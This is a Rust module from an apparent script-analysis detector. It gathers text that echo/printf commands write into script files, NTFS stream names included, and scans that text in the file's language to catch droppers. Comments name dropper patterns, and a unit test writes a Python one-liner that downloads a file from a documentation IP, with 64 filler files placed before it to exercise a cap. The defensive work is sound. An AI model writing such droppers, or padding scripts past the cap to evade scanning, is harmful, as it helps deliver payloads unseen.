//! Scripts written line by line with `echo`/`printf` into a file whose
//! name says its language (`echo … > %TEMP%\get.js`, `echo '…' >> t.py`,
//! `echo … > x.exe:hi.js`), as droppers do before running the file: the
//! lines written to each file are gathered through the whole text and
//! scanned in that language once the text is done. Text written to other
//! files (`notes.txt`, logs) stays text.

use crate::catalog::{Role, RuleLang};

use super::addr::all_loopback;
use super::program::basename;
use super::rules::{Engine, Step};
use super::shape::is_null;
use super::{Cmd, Lang, code};

/// The lines written to one file.
pub(super) struct Written {
    target: String,
    cmd: Cmd,
    text: String,
}

/// The language of a file by its extension (an NTFS stream name counts:
/// `x.exe:hi.js`); `written_by` tells JScript from Node.
fn language(target: &str, written_by: Lang) -> Option<Result<Lang, RuleLang>> {
    let name = basename(target);
    let name = name.rsplit(':').next().unwrap_or_default();
    let ext = name.rsplit_once('.')?.1;
    Some(match ext {
        "sh" | "bash" => Ok(Lang::Sh),
        "bat" | "cmd" => Ok(Lang::Batch),
        "ps1" | "psm1" => Ok(Lang::PowerShell),
        "py" => Err(RuleLang::Python),
        "pl" => Err(RuleLang::Perl),
        "rb" => Err(RuleLang::Ruby),
        "php" => Err(RuleLang::Php),
        "js" if written_by == Lang::Sh => Err(RuleLang::Js),
        "js" | "jse" | "vbs" | "vbe" | "wsf" | "hta" | "sct" => Err(RuleLang::Wsh),
        _ => return None,
    })
}

/// The text of an `echo`/`Write-Output` statement between the program and
/// its output redirection, as typed.
fn raw_echo_text(text: &str) -> Option<String> {
    let t = text.trim_start();
    let after = t.split_once(char::is_whitespace)?.1;
    let end = after.rfind('>')?;
    let body = after[..end].trim_end_matches('>').trim();
    // One quoted string is written without its quotes.
    let body = ['\'', '"']
        .into_iter()
        .find_map(|q| {
            body.strip_prefix(q)?
                .strip_suffix(q)
                .filter(|b| !b.contains(q))
        })
        .unwrap_or(body);
    (!body.is_empty()).then(|| body.to_string())
}

impl Engine<'_> {
    /// Remember what an `echo`/`printf` writes to a script file.
    pub(super) fn note_written(&mut self, s: &Step) {
        // `cmd /c echo … > x.bat` from PowerShell or a shell: cmd's echo.
        let via_cmd = s.prog == "cmd"
            && s.rest()
                .first()
                .is_some_and(|a| a.eq_ignore_ascii_case("/c") || a.eq_ignore_ascii_case("/k"))
            && s.rest()
                .get(1)
                .is_some_and(|a| a.eq_ignore_ascii_case("echo"));
        if !via_cmd && !matches!(s.prog.as_str(), "echo" | "printf" | "write-output") {
            return;
        }
        let Some(target) =
            s.c.redirs
                .iter()
                .find(|r| r.op.starts_with('>') && !is_null(&r.target))
                .map(|r| r.target.to_ascii_lowercase())
        else {
            return;
        };
        if language(&target, s.lang).is_none() {
            return;
        }
        let rest = if via_cmd { &s.rest()[2..] } else { s.rest() };
        let words = rest
            .iter()
            .filter(|a| !(s.lang == Lang::Sh && a.starts_with('-') && a.len() <= 3));
        let line = if s.lang == Lang::PowerShell && !via_cmd {
            // PowerShell drops quotes inside bare words (`GetObject("x")`):
            // what is written is the text as typed.
            raw_echo_text(&s.c.text).unwrap_or_else(|| words.cloned().collect::<Vec<_>>().join(" "))
        } else if s.prog == "printf" {
            super::decode::ansi_c(&words.cloned().collect::<String>())
        } else {
            words.cloned().collect::<Vec<_>>().join(" ")
        };
        let new_file = s.c.redirs.iter().any(|r| r.op == ">");
        let room = self.written.len() < 64;
        match self.written.iter_mut().find(|w| w.target == target) {
            Some(w) if !new_file => {
                w.text.push('\n');
                w.text.push_str(&line);
            }
            Some(w) => {
                w.text = line;
                w.cmd = s.c.clone();
            }
            None if room => self.written.push(Written {
                target,
                cmd: s.c.clone(),
                text: line,
            }),
            None => {}
        }
    }

    /// Scan every file written so far in its language.
    pub(super) fn flush_written(&mut self, writer: Lang, depth: usize) {
        for w in std::mem::take(&mut self.written) {
            match language(&w.target, writer) {
                Some(Ok(lang)) => self.run(lang, &w.text, w.cmd.line, depth + 1),
                Some(Err(lang)) => self.written_script_code(lang, &w.text, &w.cmd, depth),
                None => {}
            }
        }
    }

    fn written_script_code(&mut self, lang: RuleLang, src: &str, c: &Cmd, depth: usize) {
        let rules: Vec<usize> = self
            .text_rules(src, lang)
            .into_iter()
            .chain(self.text_rules(src, RuleLang::Arg))
            .filter(|&r| self.cat.rules[r].role != Some(Role::Exec))
            .filter(|&r| self.cat.needs_met(r, src))
            .collect();
        let lb = all_loopback(src);
        for r in rules {
            self.push(r, c, lb, None);
            self.note_download(r, c, &[]);
        }
        if depth < super::MAX_DEPTH {
            code::shell_calls(self, lang, src, Some(c), depth + 1);
        }
    }
}

#[cfg(test)]
mod tests {
    /// Hits in a shell script that writes `fillers` harmless Python files
    /// and then one that downloads.
    fn hits_after(fillers: usize) -> usize {
        let mut text = String::from("#!/bin/sh\n");
        for n in 0..fillers {
            text.push_str(&format!("echo 'print({n})' > /tmp/f{n}.py\n"));
        }
        text.push_str(
            "echo 'import urllib.request; urllib.request.urlretrieve(\"http://203.0.113.9/a\", \"/tmp/a\")' > /tmp/get.py\n",
        );
        let cat = crate::catalog::get();
        crate::inspect::script::analyze(cat, "sh", text.as_bytes())
            .hits
            .len()
    }

    #[test]
    fn at_most_64_written_files_are_read() {
        // The download written as the 64th file is read; as the 65th, not.
        let read = hits_after(63);
        assert!(read > 0);
        assert!(hits_after(64) < read);
    }
}
